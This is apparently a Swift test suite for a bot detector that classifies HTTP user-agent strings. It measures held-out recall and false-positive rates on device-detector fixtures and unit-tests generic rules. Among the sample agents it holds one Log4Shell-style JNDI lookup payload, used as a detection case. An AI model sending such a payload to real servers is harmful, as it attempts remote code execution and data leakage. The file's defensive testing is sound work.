import Foundation
import TallyCore
import Testing

/// Bot detection on the test fixtures of Matomo's device-detector (PyPI `device_detector`): 1,348 agents of named bots,
/// and 34,000 agents its authors file as browsers on phones, tablets, televisions and desktops. The bots are split by
/// name into two halves: the tuning half may be looked at (its misses are printed) when rules change; the held-out half
/// is only counted. It measured the rules that name no bot on bots no one wrote a rule for (95.14 %) until
/// device-detector's own list became a source (`--bot-rules`): since then both halves are in-sample, and the corpus no
/// source comes from is Crawler-Detect's (`BotDetectorCrawlerDetectTests`).
@Suite struct BotDetectorHeldOutTests {
    struct Corpus: Decodable {
        struct Bot: Decodable {
            let agent: String
            let name: String
            let category: String
        }
        let bots: [Bot]
        let browsers: [String]
    }

    static let extraction = """
        import glob, json, os, sys, yaml_rs, device_detector
        folder = os.path.join(os.path.dirname(device_detector.__file__), "tests", "fixtures", "upstream")
        bots, browsers = [], []
        for path in sorted(glob.glob(os.path.join(folder, "*.yml"))):
            for entry in yaml_rs.loads(open(path, encoding="utf-8").read()) or []:
                if not isinstance(entry, dict) or not isinstance(entry.get("user_agent"), str):
                    continue
                bot, client = entry.get("bot"), entry.get("client")
                if isinstance(bot, dict):
                    bots.append({"agent": entry["user_agent"], "name": str(bot.get("name") or ""), "category": str(bot.get("category") or "")})
                elif isinstance(client, dict) and client.get("type") == "browser":
                    browsers.append(entry["user_agent"])
        json.dump({"bots": bots, "browsers": browsers}, sys.stdout)
        """

    /// Which half a bot's name falls in (FNV-1a of its name: stable across runs and machines).
    static func isHeldOut(_ name: String) -> Bool {
        var hash: UInt64 = 0xcbf2_9ce4_8422_2325
        for byte in name.lowercased().utf8 {
            hash = (hash ^ UInt64(byte)) &* 0x0000_0100_0000_01b3
        }
        return hash % 2 == 1
    }

    /// The rules that name no bot, alone (no lists): each flags its kind of program with its own reason, and leaves
    /// phones whose model names hold those words alone.
    @Test func genericRulesFlagProgramsWithTheirReason() {
        let detector = BotDetector(crawlerPatterns: nil, uapRules: nil)
        let programs: [(String, String)] = [
            ("k6/0.31.1 (https://k6.io/)", "ua:tool"),
            ("gobuster/3.1.0", "ua:tool"),
            ("${jndi:ldap://${hostName}.useragent.example.oast.live}", "ua:payload"),
            ("ELB-HealthChecker/2.0", "ua:program-word"),
            ("Datadog/Synthetics", "ua:program-word"),
            ("Mozilla/5.0 (compatible; DataXu/1.0; +http://dataxu.com)", "ua:contact"),
            ("Owler@ows.eu/1", "ua:contact"),
            ("Mozilla/5.0 (compatible; Kaupr/1.0)", "ua:compatible-program"),
            ("Sprinklr 2.0", "ua:no-browser-token"),
            ("Matomo/4.15.1", "ua:no-browser-token"),
            ("Mozilla/5.0 (Morningscore/1.0)", "ua:no-platform"),
            ("Mozilla/5.0 CheckerProxy/1.0", "ua:program-word"),
        ]
        for (agent, reason) in programs {
            #expect(detector.classify(userAgent: agent) == .spider(reason: reason), "\(agent)")
        }
        let people = [
            "Mozilla/5.0 (Linux; Android 7.0; CUBOT NOTE Plus) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.110 Mobile Safari/537.36",
            "Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
            "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
            "Palmscape/3.0J [ja] (v. 3.5.2H1.5; 153x130; c8)",
            "Nokia6230i/2.0 (03.40) Profile/MIDP-2.0 Configuration/CLDC-1.1",
        ]
        for agent in people { #expect(detector.classify(userAgent: agent) == .human, "\(agent)") }
    }

    @Test(.enabled(if: BotDetectorTests.available && ReferenceCorpora.available))
    func botsNoRuleWasWrittenForAreFlaggedAndBrowsersAreNot() throws {
        let detector = try BotDetectorTests.detector()
        let corpus = try JSONDecoder().decode(Corpus.self, from: try ReferenceCorpora.runPython(Self.extraction))
        let tuning = corpus.bots.filter { !Self.isHeldOut($0.name) }
        let heldOut = corpus.bots.filter { Self.isHeldOut($0.name) }
        func missed(_ bots: [Corpus.Bot]) -> [Corpus.Bot] { bots.filter { !detector.classify(userAgent: $0.agent).isSpider } }
        let tuningMissed = missed(tuning)
        let heldOutMissed = missed(heldOut)
        for bot in tuningMissed { print("  missed (tuning half, \(bot.category)): \(bot.agent)") }
        var byCategory: [String: Int] = [:]
        for bot in heldOutMissed { byCategory[bot.category, default: 0] += 1 }
        for (category, count) in byCategory.sorted(by: { $0.value > $1.value }) { print("  missed (held-out half) \(category): \(count)") }
        // Each browser classified once; the flagged ones keep their reason.
        let falseBots = corpus.browsers.compactMap { agent in detector.classify(userAgent: agent).reason.map { (agent, $0) } }
        var reasons: [String: Int] = [:]
        for (_, reason) in falseBots { reasons[reason, default: 0] += 1 }
        for (reason, count) in reasons.sorted(by: { $0.value > $1.value }) { print("  false bots by \(reason): \(count)") }
        for (agent, reason) in falseBots { print("  false bot (\(reason)): \(agent)") }
        func share(_ part: Int, _ whole: Int) -> Double { Double(part) / Double(max(whole, 1)) * 100 }
        let heldOutRecall = share(heldOut.count - heldOutMissed.count, heldOut.count)
        let falseRate = share(falseBots.count, corpus.browsers.count)
        print(
            String(
                format:
                    "device-detector fixtures: tuning half %d bots, %.2f %% flagged; held-out half %d bots, %.2f %% flagged; %d browsers, %d flagged (%.3f %%)",
                tuning.count, share(tuning.count - tuningMissed.count, tuning.count), heldOut.count, heldOutRecall,
                corpus.browsers.count, falseBots.count, falseRate)
        )
        #expect(corpus.bots.count > 1_000 && corpus.browsers.count > 30_000)
        // 95.14 % on 2026-12-07 with the rules that name no bot; 99.43 % with device-detector's list as a source.
        #expect(heldOutRecall >= 99)
        #expect(falseRate <= 0.1)
    }
}
